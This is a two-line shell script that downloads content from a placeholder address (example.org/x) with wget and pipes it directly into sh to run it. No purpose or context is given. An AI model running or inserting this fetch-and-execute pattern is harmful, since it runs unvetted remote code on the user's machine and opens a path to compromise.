#!/bin/sh
wget -qO- https://example.org/x | sh
